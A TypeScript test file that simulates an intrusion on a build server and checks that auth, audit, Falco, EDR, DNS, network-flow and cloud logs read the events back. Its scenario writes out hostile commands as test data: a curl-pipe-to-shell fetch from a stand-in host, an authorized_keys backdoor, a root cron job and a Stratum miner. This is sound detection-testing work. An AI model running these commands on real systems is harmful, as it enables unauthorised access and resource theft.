/** What is written of simulated machines is read back by the same source, with the same columns and nothing set aside. */
import { globSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import type { Row } from '../src/lake/engine.ts';
import type { Happening, SimulatedMachine } from '../src/model/machine-simulation.ts';
import { machineRenders } from '../src/registry/machine-renders.ts';
import { simulations } from '../src/registry/simulations.ts';
import { sources } from '../src/registry/sources.ts';
import { deliverMachine } from '../src/simulate/machines/deliver-machines.ts';
import { type PlayedMachine, stageMachines } from '../src/simulate/machines/stage-machines.ts';
import { createRandom } from '../src/simulate/random.ts';
import { parseScenario } from '../src/simulate/scenario.ts';
import { projectRoot } from './project-copy.ts';
import { TemporaryLake } from './temporary-lake.ts';

const seen = ['linux.auth', 'linux.auditd', 'falco', 'crowdstrike', 'osquery', 'dns.text', 'process-list', 'suricata'];

const text = `
title: a day
organisation: { name: example, domain: example.com }
start: 2026-03-02T00:00:00Z
days: 2
machines:
  one:
    name: build-1
    cores: 4
    privateAddress: 10.0.0.7
    seenBy: [${seen.join(', ')}]
    life:
      developers: [dev]
      builds: { user: runner, uid: 998, folder: /srv/work, perDay: 2, minutes: 20, cpu: 95, command: make all, compiler: /usr/lib/gcc/cc1 }
      backup: { at: '02:10', command: backup, program: /usr/local/bin/backup, to: { address: 192.0.2.90, domain: backup.example.com, port: 443, seconds: 60, out: 1000000 } }
      noise: { addresses: 9, attemptsPerDay: 40, networks: [203.0.113], users: [admin, test] }
people:
  dev: { user: dev, uid: 1000, key: { type: ED25519, name: dev }, from: [198.51.100.7], side: owner }
  thief: { as: dev, from: [203.0.113.9], side: intruder }
acts:
  - { at: '1 20:00:00', by: thief, machine: one, signsIn: {} }
  - { at: '1 20:00:30', by: thief, machine: one, makesUser: { user: svc, uid: 1005 }, sudo: true }
  - { at: '1 20:00:40', by: thief, machine: one, addsToGroup: { user: svc, group: sudo }, sudo: true }
  - { at: '1 20:01:00', by: thief, machine: one, runs: "sh -c 'curl -s http://files.example.net/x | sh'", reaches: [{ address: 192.0.2.66, domain: files.example.net, port: 80 }] }
  - { at: '1 20:01:10', by: thief, machine: one, runs: "tee '/home/dev/.ssh/authorized_keys'", writes: [/home/dev/.ssh/authorized_keys] }
  - { at: '1 20:02:00', by: thief, machine: one, setsTimetable: { for: root, everyMinutes: 20, runs: /tmp/.x/y }, sudo: true }
  - { at: '1 20:03:00', by: thief, machine: one, runs: '/tmp/.x/y -o stratum+tcp://pool.example.net:3333', sudo: true, stays: { named: miner, cpu: 90, keeps: [{ address: 192.0.2.70, domain: pool.example.net, port: 3333, out: 100, in: 200 }] } }
  - { at: '1 21:30:00', by: thief, machine: one, listsProcesses: true }
  - { at: '1 22:00:00', by: thief, machine: one, isolates: true }
`;

function played(scale = 1, source = text): PlayedMachine {
  const file = parseScenario(source, 'test');
  if (file.is !== 'scenario') throw new Error('no scenario');
  const [machine] = stageMachines(file.scenario, { seed: 'test', scale, madeBy: () => null });
  if (!machine) throw new Error('no machine');
  return machine;
}

const machine = played();
const files = Object.fromEntries(
  [...deliverMachine(machine, machineRenders, 'test')].map(({ key, text: written }) => [key, written]),
);
const lake = await TemporaryLake.open(...sources);
afterAll(() => lake.close());
const { records } = await lake.ingest(files);
const events = await lake.events();
const of = (source: string, more: Partial<Row> = {}): readonly Row[] =>
  events.filter(
    (event) => event['source'] === source && Object.entries(more).every(([key, value]) => event[key] === value),
  );

const valuesOf = (rows: readonly Row[], column: string): readonly string[] =>
  [...new Set(rows.map((row) => String(row[column])))].toSorted();

test('every record is an event of its source, and none is set aside', () => {
  expect(records).toMatchObject({ set_aside: [], duplicates: 0, conflicts: 0 });
  expect(records.events).toBe(records.read);
  expect(valuesOf(events, 'source')).toEqual(seen.toSorted());
});

test('every folder that can write something down is listed, and no other is', () => {
  const folders = globSync('{clouds,hosts,platforms}/**/render.ts', { cwd: join(projectRoot, 'src') }).map(dirname);
  // `clouds/aws/sources/cloudtrail` holds `aws.cloudtrail`, `hosts/falco` holds `falco`.
  const ids = folders.map((folder) =>
    folder
      .split('/')
      .filter((_, index) => index === 1 || index === 3)
      .join('.'),
  );
  const known = [...machineRenders, ...simulations.map(({ render }) => render)].map(({ source }) => source);
  expect(ids.toSorted()).toEqual(known.toSorted());
});

test.each(machineRenders.map(({ source }) => [source]))('%s is one of the sources that are read', (source) => {
  expect(sources.map(({ id }) => id)).toContain(source);
});

describe('of a sign-in', () => {
  const [door] = machine.story.flatMap(({ happening }) => (happening.deed.is === 'sign-in' ? [happening.deed] : []));

  test('the log of sign-ins has user, key and address', () => {
    expect(of('linux.auth', { operation: 'Accepted', source_ip: '203.0.113.9' })).toMatchObject([
      { actor_name: 'dev', actor_uid: 'build-1/dev', credential: door?.key?.fingerprint },
    ]);
  });

  test('the audit log has the same', () => {
    expect(of('linux.auditd', { operation: 'USER_LOGIN', source_ip: '203.0.113.9', error: null })).toMatchObject([
      { actor_name: 'dev', host: 'build-1', process: '/usr/sbin/sshd' },
    ]);
  });

  test('who is refused is told with the name that he tried', () => {
    const tried = of('linux.auth', { operation: 'Failed' });
    const failed = machine.happenings.filter(({ deed }) => deed.is === 'sign-in' && deed.outcome !== 'accepted');
    expect(tried).toHaveLength(failed.length);
    expect(of('linux.auditd', { operation: 'USER_LOGIN', error: 'failed' })).toHaveLength(failed.length);
  });
});

describe('of a program', () => {
  test('what sudo ran stands in both logs', () => {
    const command = '/usr/sbin/useradd -m -d /home/svc -s /bin/bash svc';
    expect(of('linux.auth', { operation: 'COMMAND', command })).toMatchObject([{ actor_name: 'dev' }]);
    expect(of('linux.auditd', { operation: 'USER_CMD', command })).toMatchObject([{ actor_name: 'dev' }]);
    expect(of('linux.auditd', { operation: 'execve', process: '/usr/sbin/useradd' })).toMatchObject([
      { actor_name: 'dev', command: command.replace('/usr/sbin/', '') },
    ]);
  });

  test('arguments with blanks are read back as they were', () => {
    expect(of('linux.auditd', { process: '/usr/bin/sh', operation: 'execve' })).toMatchObject([
      { command: 'sh -c curl -s http://files.example.net/x | sh' },
    ]);
  });

  test('every process is in the audit log, with its number', () => {
    const pids = machine.happenings.flatMap(({ deed }) => (deed.is === 'process' ? [String(deed.process.pid)] : []));
    expect(valuesOf(of('linux.auditd', { operation: 'execve' }), 'process_uid')).toEqual(pids.toSorted());
  });

  test('a watched file is read back', () => {
    expect(of('linux.auditd', { category: 'rootkey' })).toMatchObject([
      { operation: 'openat', file: '/home/dev/.ssh/authorized_keys' },
    ]);
  });

  test('the sensor raises what its rules see', () => {
    expect(valuesOf(of('falco'), 'alert')).toEqual([
      'Adding ssh keys to authorized_keys',
      'Detect crypto miners using the Stratum protocol',
      'Detect outbound connections to common miner pool ports',
      'Schedule Cron Jobs',
      'User mgmt binaries',
    ]);
  });

  test('other sensors tell it with user, program and command', () => {
    const miner = { process: '/tmp/.x/y', command: '/tmp/.x/y -o stratum+tcp://pool.example.net:3333' };
    const told = [{ actor_name: 'root', host: 'build-1', time: '2026-03-02T20:03:00.000Z' }];
    expect(of('crowdstrike', { ...miner, category: 'process_creation' })).toMatchObject(told);
    expect(of('osquery', { ...miner, category: 'process_creation' })).toMatchObject(told);
    for (const sensor of ['crowdstrike', 'osquery'])
      expect(of(sensor, { category: 'network_connection', destination_ip: '192.0.2.70' })).toMatchObject([
        { destination_port: '3333', host: 'build-1' },
        { destination_port: '3333' },
      ]);
    expect(of('crowdstrike', { domain: 'pool.example.net' })).toHaveLength(2);
    expect(of('osquery', { file: '/home/dev/.ssh/authorized_keys' })).toMatchObject([{ category: 'file_event' }]);
    expect(of('osquery', { category: 'account' })).toHaveLength(1);
  });

  test('what runs is listed', () => {
    expect(of('process-list', { process: '/tmp/.x/y' })).toMatchObject([
      {
        actor_name: 'root',
        command: '/tmp/.x/y -o stratum+tcp://pool.example.net:3333',
        time: '2026-03-02T21:30:00.000Z',
      },
    ]);
  });
});

test('users, groups and timetables are told by the log of sign-ins', () => {
  expect(of('linux.auth', { operation: 'new user' })).toHaveLength(1);
  expect(of('linux.auth', { operation: 'add' })).toHaveLength(2);
  expect(of('linux.auth', { operation: 'REPLACE' })).toMatchObject([{ actor_name: 'root' }]);
  // From 20:20 on, to the end of the second day.
  expect(of('linux.auth', { operation: 'CMD', command: '/tmp/.x/y' })).toHaveLength(3 * 28 - 1);
});

test('names and flows are told by who sees the network, until the machine is cut off', () => {
  expect(of('dns.text', { domain: 'pool.example.net', kind: 'query' })).toHaveLength(2);
  const flows = of('suricata', { kind: 'flow', destination_ip: '192.0.2.70' });
  expect(flows).toMatchObject([{ destination_port: '3333', source_ip: '10.0.0.7' }, {}]);
  const carried = flows.reduce((sum, event) => sum + Number(event['bytes_out']), 0);
  expect(carried).toBeGreaterThan(11_600);
  expect(carried).toBeLessThan(11_720);
  const after = machine.happenings.filter(
    ({ time, deed }) => deed.is === 'connection' && time > Date.UTC(2026, 2, 2, 22),
  );
  expect(after).toEqual([]);
});

describe('metrics', () => {
  const at = (hour: number, minute: number, metric: string): number | undefined =>
    machine.happenings
      .filter(({ time }) => time >= Date.UTC(2026, 2, 2, hour, minute) && time < Date.UTC(2026, 2, 2, hour, minute + 1))
      .flatMap(({ deed }) => (deed.is === 'measure' && deed.metric === metric ? [deed.value] : []))[0];

  test('follow from what runs', () => {
    expect(at(19, 0, 'cpu')).toBeLessThan(6);
    expect(at(20, 30, 'cpu')).toBeGreaterThan(91);
    expect(at(2, 10, 'bytes-out')).toBeGreaterThan(500_000);
    expect(at(3, 10, 'bytes-out')).toBeLessThan(60_000);
  });
});

describe('played', () => {
  test('again, it is the same; with another scale, the story is', () => {
    expect(played()).toEqual(machine);
    const deeds = ({ story }: PlayedMachine) => story.map(({ happening: { time, deed } }) => ({ time, deed }));
    expect(deeds(played(0.2))).toEqual(deeds(machine));
    expect(played(0.2).happenings.length).toBeLessThan(machine.happenings.length);
  });

  test('no address of the noise is one that the story names', () => {
    expect(machine.noiseAddresses).toHaveLength(9);
    expect(machine.noiseAddresses).not.toContain('203.0.113.9');
  });

  test.each([
    ["{ at: '1 21:00:00', by: nobody, machine: one, runs: id }", /nobody of that name/],
    ["{ at: '1 21:00:00', by: dev, machine: two, runs: id }", /no such machine/],
    ["{ at: '1 19:00:00', by: dev, machine: one, runs: id }", /who has a key signs in first/],
    ["{ at: '1 21:00:00', by: dev, machine: one, ends: other }", /nothing called 'other' runs/],
    ["{ at: '1 21:00:00', by: dev, machine: one, runs: id, signsOut: true }", /an act on a machine has one of/],
    ["{ at: '1 21:00:00', by: dev, machine: one, runs: 5 }", /^test: acts\.9\.runs: /],
  ])('%s is refused', (step, told) => {
    expect(() => played(1, `${text}  - ${step}\n`)).toThrow(told);
  });
});

describe('of a machine in a tenancy', () => {
  const placed = text
    .replace(
      'name: build-1',
      'name: build-1\n    uid: ocid1.instance.oc1.iad.anuwcljtexampleone\n    account: ocid1.tenancy.oc1..aaaaaaaaexample\n    region: us-ashburn-1\n    compartment: Development\n    measured: { everyMinutes: 60, metrics: [cpu, bytes-out] }',
    )
    .replace('domain: backup.example.com', 'domain: objectstorage.us-ashburn-1.example.com')
    .replace(/seenBy: .*/, 'seenBy: [oci.vcn-flow, oci.metrics, oci.cloud-guard, oci.objectstorage]')
    .replace('people:', 'people:\n  cloud-guard: { user: root, uid: 0, side: provider }')
    .concat(
      "  - { at: '1 21:40:00', by: cloud-guard, machine: one, alerts: { uid: one, rule: MINING, severity: critical, text: it mines, about: miner } }\n",
    );

  test('what its cloud sees is read back, and none is set aside', async () => {
    const cloudLake = await TemporaryLake.open(...sources);
    try {
      const machineOfCloud = played(1, placed);
      const delivered = [...deliverMachine(machineOfCloud, machineRenders, 'test')];
      const accounting = await cloudLake.ingest(
        Object.fromEntries(delivered.map((one) => [one.key.replace(/\.gz$/, ''), one.text])),
      );
      expect(accounting.records).toMatchObject({ set_aside: [], duplicates: 0, conflicts: 0 });
      const rows = await cloudLake.events();
      expect(valuesOf(rows, 'source')).toEqual(['oci.cloud-guard', 'oci.metrics', 'oci.objectstorage', 'oci.vcn-flow']);
      const written = rows.filter((row) => row['source'] === 'oci.objectstorage');
      // The second night it is cut off.
      expect(written).toHaveLength(1);
      expect(written).toMatchObject([
        { operation: 'PutObject', actor_name: 'build-1', actor_type: 'instance', error: null },
      ]);
      // 22 hours until it is cut off, of two metrics of the agent and one of the interface.
      expect(rows.filter((row) => row['source'] === 'oci.metrics')).toHaveLength(22 * 3);
    } finally {
      await cloudLake.close();
    }
  });
});

test('a clock that is not UTC writes its own time into logs without a zone', () => {
  const there: SimulatedMachine = { ...machine.machine, offsetMinutes: -300 };
  const happening: Happening = {
    time: Date.UTC(2026, 2, 2, 3, 4, 5),
    machine: there,
    deed: { is: 'timetable-changed', pid: 7, by: 'root', user: 'root' },
  };
  const auth = machineRenders.find(({ source }) => source === 'linux.auth');
  expect(auth?.records(happening, createRandom('x'))).toEqual([
    'Mar  1 22:04:05 build-1 crontab[7]: (root) REPLACE (root)',
  ]);
});

test('old logs are rotated, and compressed but for the youngest', () => {
  const auth = machineRenders.find(({ source }) => source === 'linux.auth');
  const of = (index: number) =>
    auth?.object({ machine: machine.machine, time: 0, index, random: createRandom('x') }, ['a', 'b']);
  expect([0, 1, 2].map((index) => of(index))).toMatchObject([
    { key: 'build-1/var/log/auth.log', text: 'a\nb\n', isCompressed: false },
    { key: 'build-1/var/log/auth.log.1', isCompressed: false },
    { key: 'build-1/var/log/auth.log.2.gz', isCompressed: true },
  ]);
});
